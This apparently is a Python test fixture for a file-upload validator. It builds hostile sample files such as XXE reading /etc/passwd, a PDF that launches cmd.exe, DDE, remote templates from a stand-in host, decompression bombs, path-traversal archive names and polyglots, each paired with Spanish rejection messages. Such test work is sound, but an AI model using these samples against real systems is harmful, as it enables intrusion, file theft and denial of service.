"""Files that somebody might send to do harm, each a few bytes made here, and the words that must answer them."""

import base64
import io
import struct
import zipfile
import zlib

from tequio.portal.demo.valle_files import pdf, png

CONTENT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
PNG = png(4, 4)
PDF = pdf(["Hola"])
HTML = b"<html><script>alert(1)</script></html>"
# A picture of one point.
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wAALCAAB"
    "AAEBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAACf/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AKp//2Q=="
)
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")


def archive(parts: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        made.comment = comment
    return out.getvalue()


def docx(**more: bytes | str) -> bytes:
    parts = {"[Content_Types].xml": CONTENT, "word/document.xml": "<w:document>Hola</w:document>"}
    return archive(parts | {name.replace("__", "/"): content for name, content in more.items()})


def office(parts: dict[str, bytes | str]) -> bytes:
    return archive({"[Content_Types].xml": CONTENT, "word/document.xml": "<w:document/>"} | parts)


def odt(parts: dict[str, bytes | str]) -> bytes:
    return archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:text/>"} | parts)


def relation(kind: str, target: str) -> bytes:
    head = (
        "<Relationships><Relationship Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    )
    return office(
        {"word/_rels/document.xml.rels": f"{head}{kind}' Target='{target}' TargetMode='External'/></Relationships>"}
    )


def in_pdf(inside: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + inside)


def packed_in_pdf(inside: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(inside)
    stream = b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream endobj\n" % (
        filters,
        len(data),
        data,
    )
    return PDF.replace(b"xref\n", stream + b"xref\n", 1)


def png_of(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    place = JPEG.index(b"\xff\xc0") if b"\xff\xc0" in JPEG else JPEG.index(b"\xff\xc9")
    return JPEG[: place + 5] + struct.pack(">HH", height, width) + JPEG[place + 9 :]


def encrypted() -> bytes:
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def overlapping() -> bytes:
    """Two names for the same packed bytes: how a small archive unpacks without end."""
    content = bytearray(docx(word__a_xml="x" * 4000, word__b_xml="x" * 4000))
    places, place = [], content.find(b"PK\x01\x02")
    while place >= 0:
        places.append(place)
        place = content.find(b"PK\x01\x02", place + 4)
    content[places[-1] + 42 : places[-1] + 46] = content[places[-2] + 42 : places[-2] + 46]
    return bytes(content)


def null_name() -> bytes:
    return office({"word/media/aXb.xml": "<x/>"}).replace(b"aXb.xml", b"a\0b.xml")


ZIP = archive({"a.txt": "hola"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ENTITY = '<!DOCTYPE x [<!ENTITY a "ja"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
A_FILE = "file:" + "///etc/passwd"  # in pieces: no file of the product names a folder of one machine
XXE = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{A_FILE}">]><w:document>&f;</w:document>'
JS = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"

FILES: dict[str, tuple[bytes, str]] = {
    # Not what we take
    "nothing": (b"", "vacío"),
    "a program for Windows": (b"MZ\x90\0" + b"\0" * 100, "programa"),
    "a program for Linux": (b"\x7fELF\x02\x01" + b"\0" * 100, "programa"),
    "a page": (HTML, "página web"),
    "a page after spaces and a mark": (b"\xef\xbb\xbf \n\t" + HTML, "página web"),
    "a page in UTF-16": ("\ufeff<html>".encode("utf-16-le"), "página web"),
    "an SVG with a script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "SVG"),
    "XML with entities": (b'<?xml version="1.0"?>' + ENTITY.encode(), "XML"),
    "a ZIP": (ZIP, "ZIP"),
    "a RAR": (b"Rar!\x1a\x07\0" + b"\0" * 50, "comprimido"),
    "a 7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "comprimido"),
    "a gzip": (b"\x1f\x8b\x08\0" + b"\0" * 50, "comprimido"),
    "a tar": (b"\0" * 257 + b"ustar\0" + b"\0" * 300, "comprimido"),
    "an old Word": (OLE, "antiguo"),
    "a Word with a password": (OLE + "EncryptedPackage".encode("utf-16-le"), "contraseña"),
    "a GIF": (b"GIF89a" + b"\0" * 50, "imagen"),
    "a HEIC photo": (b"\0\0\0\x18ftypheic" + b"\0" * 50, "HEIC"),
    "a film": (b"\0\0\0\x18ftypisom" + b"\0" * 50, "video"),
    "text with a null": (b"hola\0mundo", "No reconocemos"),
    "text that turns its letters round": ("factura\u202efdp.exe".encode(), "UTF-8"),
    "noise": (bytes(range(256)) * 4, "No reconocemos"),
    # Two things at once
    "a PDF that is a ZIP too": (PDF + ZIP, "ZIP pegado"),
    "a picture that is a JAR too": (PNG + archive({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "ZIP pegado"),
    "a JPEG that is a ZIP too": (JPEG + ZIP, "ZIP pegado"),
    "a JPEG with a page behind": (JPEG + HTML, "página web escondida"),
    "a JPEG with a script behind": (JPEG + b"#!/bin/sh", "pegada al final"),
    "a PDF with a script behind": (PDF + b"#!/bin/sh", "pegada al final"),
    "a document with a comment": (archive({"[Content_Types].xml": CONTENT, "word/a.xml": "x"}, b"hola"), "pegada"),
    "a PNG with a program behind": (PNG + b"MZ\x90\0" + b"\0" * 99, "pegada al final"),
    "a WebP with a page behind": (WEBP + HTML, "página web escondida"),
    "a PDF with a page behind": (PDF + HTML, "página web escondida"),
    "a JPEG with a page in its comment": (
        b"\xff\xd8\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + JPEG[2:],
        "página web escondida",
    ),
    "a PDF with a page in its head": (b"%PDF-1.4\n" + HTML + PDF[8:], "página web escondida"),
    "a document with a program before it": (b"MZ\x90\0" + docx(), "programa"),
    "a document with something behind": (docx() + b"#!/bin/sh", "pegada"),
    "a document with a comment that is a page": (
        archive({"[Content_Types].xml": CONTENT, "word/a.xml": "x"}, HTML),
        "página web escondida",
    ),
    # Pictures
    "a PNG that unpacks to gigabytes": (png_of(30_000, 30_000, zlib.compress(b"\0" * 1000)), "demasiado grande"),
    "a PNG with more than it says": (png_of(2, 2, zlib.compress(b"\0" * 5_000_000)), "se infla"),
    "a PNG cut off": (PNG[:-20], "dañada"),
    "a PNG with a wrong sum": (PNG[:40] + bytes([PNG[40] ^ 1]) + PNG[41:], "dañada"),
    "a PNG of no size": (png_of(0, 5, zlib.compress(b"")), "dañada"),
    "a JPEG as large as a field": (jpeg_of(65_000, 65_000), "demasiado grande"),
    "a JPEG cut off": (JPEG[:-30], "dañada"),
    "a WebP as large as a field": (WEBP[:21] + b"\xff\xff\xff\xff" + WEBP[25:], "demasiado grande"),
    "a WebP that promises more": (WEBP[:4] + b"\xff\xff\xff\x7f" + WEBP[8:], "dañada"),
    # PDFs
    "a PDF with a script": (in_pdf(JS), "se ejecutan"),
    "a PDF with a script under another name": (
        in_pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert)>>"),
        "se ejecutan",
    ),
    "a PDF with a script in a packed object": (packed_in_pdf(b"1 0 <<" + JS + b">>"), "se ejecutan"),
    "a PDF that starts a program": (in_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "se ejecutan"),
    "a PDF that sends a form": (in_pdf(b"/AA<</O<</S/SubmitForm/F(http://e.mx)>>>>"), "se ejecutan"),
    "a PDF with XFA": (in_pdf(b"/AcroForm<</XFA[(a)5 0 R]>>"), "se ejecutan"),
    "a PDF with a file in it": (in_pdf(b"/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>"), "otro archivo dentro"),
    "a PDF with a file in a packed object": (
        packed_in_pdf(b"1 0 <</Type/Filespec/EF<</F 3 0 R>>>>"),
        "otro archivo dentro",
    ),
    "a PDF with a password": (PDF.replace(b"/Root", b"/Encrypt 8 0 R/Root"), "protegido"),
    "a PDF packed twice": (packed_in_pdf(b"1 0 x", b"[/ASCIIHexDecode/FlateDecode]"), "poco común"),
    "a PDF that unpacks to much": (packed_in_pdf(b"\0" * (33 << 20)), "se infla"),
    "a PDF cut off": (PDF[:-10], "dañado"),
    # Office documents
    "a document with macros": (docx(word__vbaProject_bin="x").replace(b"vbaProject_bin", b"vbaProject.bin"), "macros"),
    "a document that says it has macros": (
        archive(
            {
                "[Content_Types].xml": CONTENT.replace("</", "application/vnd.ms-word.document.macroEnabled</"),
                "word/a.xml": "",
            }
        ),
        "macros",
    ),
    "a sheet with old macros": (archive({"[Content_Types].xml": CONTENT, "xl/macrosheets/s.xml": "x"}), "macros"),
    "an ODT with macros": (odt({"Basic/Standard/Module1.xml": "x"}), "macros"),
    "a document with an OLE object": (office({"word/embeddings/oleObject1.bin": OLE}), "otro archivo dentro"),
    "a document with ActiveX": (office({"word/activeX/activeX1.xml": "x"}), "otro archivo dentro"),
    "a document with an archive in it": (office({"word/media/image1.png": ZIP}), "otro archivo dentro"),
    "a document with a document in it": (office({"word/media/b.docx": docx()}), "otro archivo dentro"),
    "a document with a program in it": (office({"word/media/image1.emf": b"MZ\x90\0"}), "otro archivo dentro"),
    "a document with a template from outside": (relation("attachedTemplate", "http://malo.mx/t.dotm"), "está fuera"),
    "a document with a picture from outside": (relation("image", "http://malo.mx/pixel.png"), "está fuera"),
    "a document with a link to a file": (relation("hyperlink", A_FILE), "está fuera"),
    "a document with DDE": (
        office({"word/header1.xml": "<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"}),
        "está fuera",
    ),
    "a sheet that needs another": (
        archive({"[Content_Types].xml": CONTENT, "xl/externalLinks/e.xml": "x"}),
        "está fuera",
    ),
    "an ODT with a picture from outside": (
        odt({"styles.xml": '<draw:image xlink:href="http://malo.mx/p.png"/>'}),
        "está fuera",
    ),
    "a document with entities": (office({"word/styles.xml": ENTITY}), "definiciones"),
    "a document that reads a file": (office({"word/styles.xml": XXE}), "definiciones"),
    "a document with entities in UTF-16": (office({"word/styles.xml": XXE.encode("utf-16")}), "definiciones"),
    "an ODT with a password": (odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "contraseña"),
    "a document with a password": (encrypted(), "contraseña"),
    "a document that unpacks to much": (office({f"word/{n}.xml": b"\0" * (8 << 20) for n in range(4)}), "se infla"),
    "a document of thousands of parts": (office({f"word/{n}.xml": "" for n in range(5001)}), "se infla"),
    "a document whose parts overlap": (overlapping(), "se infla"),
    "a document that climbs": (office({"word/../../../etc/passwd": "x"}), "apuntan fuera"),
    "a document with a whole path": (office({"/etc/passwd": "x"}), "apuntan fuera"),
    "a document with a Windows path": (office({"word\\..\\..\\a.xml": "x"}), "apuntan fuera"),
    "a document with a null in a name": (null_name(), "apuntan fuera"),
    "a document with a long name": (office({"word/" + "a" * 300: "x"}), "apuntan fuera"),
    "a document with a part twice": (office({"word/a.xml": "x", "word/A.xml": "y"}), "dos veces"),
    "a document cut off": (docx()[:-40], "ZIP"),
}
